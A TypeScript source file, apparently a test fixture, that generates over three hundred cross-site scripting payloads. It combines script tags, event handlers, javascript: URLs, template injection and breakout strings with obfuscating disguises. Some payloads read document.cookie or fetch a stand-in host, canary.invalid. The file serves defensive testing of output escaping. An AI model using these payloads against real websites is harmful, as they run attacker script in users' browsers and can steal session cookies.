// SPDX-License-Identifier: Apache-2.0
// Texts that would run as script, or reach for another server, if any page ever took text for markup. Each calls pwned(),
// which is watched for, or asks canary.invalid, which is watched for, too.

const scripts = ['pwned(1)', "fetch('//canary.invalid')", 'top.pwned(document.cookie)'];

const shapes = [
  (run: string) => `<script>${run}</script>`,
  (run: string) => `<img src=x onerror=${run}>`,
  (run: string) => `<img src="//canary.invalid/x.png">`.replace('x.png', `${run.length}.png`),
  (run: string) => `<svg onload=${run}>`,
  (run: string) => `<svg><script>${run}</script></svg>`,
  (run: string) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run: string) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run: string) => `<iframe src="javascript:${run}"></iframe>`,
  (run: string) => `<a href="javascript:${run}">x</a>`,
  (run: string) => `<form action="javascript:${run}"><button autofocus>x`,
  (run: string) => `<input autofocus onfocus=${run}>`,
  (run: string) => `<details open ontoggle=${run}>`,
  (run: string) => `<video><source onerror=${run}>`,
  (run: string) => `<body onload=${run}>`,
  (run: string) => `<math><mtext></math><img src onerror=${run}>`,
  (run: string) => `<style>@import '//canary.invalid/${run.length}.css';</style>`,
  (run: string) => `<link rel=stylesheet href=//canary.invalid/${run.length}.css>`,
  (run: string) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run: string) => `<base href=//canary.invalid/>${run}`,
  (run: string) => `<object data="javascript:${run}"></object>`,
  (run: string) => `"><script>${run}</script>`,
  (run: string) => `' onmouseover=${run} x='`,
  (run: string) => `</title><script>${run}</script>`,
  (run: string) => `</textarea><script>${run}</script>`,
  (run: string) => `--><script>${run}</script>`,
  (run: string) => `]]><script>${run}</script>`,
  (run: string) => `javascript:${run}`,
  (run: string) => `{{constructor.constructor('${run.replaceAll("'", '')}')()}}`,
  (run: string) => `\${${run}}`,
  (run: string) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run: string) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run: string) => `<xss style="animation-name:x" onanimationstart=${run}>`,
];

const disguises = [
  (text: string) => text,
  (text: string) => text.toUpperCase().replace(/PWNED/g, 'pwned'),
  (text: string) => text.replaceAll('<', '<\u200b').replaceAll('=', ' = '),
  (text: string) => `\u202e${text}`,
];

/** More than three hundred, no two alike. */
export const payloads: string[] = [
  ...new Set(shapes.flatMap((shape) => scripts.flatMap((run) => disguises.map((disguise) => disguise(shape(run)))))),
];
